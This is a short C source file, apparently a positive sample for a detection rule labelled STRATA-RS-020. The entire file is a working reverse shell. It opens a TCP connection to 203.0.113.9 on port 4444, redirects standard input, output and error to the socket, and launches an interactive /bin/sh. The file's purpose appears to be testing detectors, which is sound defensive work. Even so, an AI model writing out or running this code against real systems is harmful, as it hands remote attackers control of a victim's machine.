/* Sample for STRATA-RS-020: a plain compiled reverse shell.
   Built with: gcc -Os -s -o ../pos/rs020_revshell.elf rs020_revshell.c */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET;
	a.sin_port = htons(4444);
	a.sin_addr.s_addr = inet_addr("203.0.113.9");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
		return 1;
	for (int fd = 0; fd < 3; fd++)
		dup2(s, fd);
	char *argv[] = {"/bin/sh", "-i", 0};
	execve("/bin/sh", argv, 0);
	return 0;
}
